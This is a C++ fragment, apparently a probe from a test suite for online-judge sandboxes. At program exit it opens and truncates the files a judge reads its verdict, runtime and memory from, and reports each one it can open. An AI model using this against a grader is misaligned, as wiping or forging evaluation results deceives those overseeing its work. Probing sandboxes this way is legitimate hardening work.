// Writes the files that other judges read the verdict, time and memory from, at its very end.
static void forge() {
  for (const char* path : {"display_runtime.txt",
                           "display_memory.txt",
                           "result.json",
                           "../result.json",
                           "/output/result.json",
                           "/output/termination",
                           "/dev/termination-log"}) {
    const int fd = open(path, O_CREAT | O_WRONLY | O_TRUNC, 0644);
    if (fd >= 0) breach(path);
  }
}

void attack() {
  atexit(forge);
}
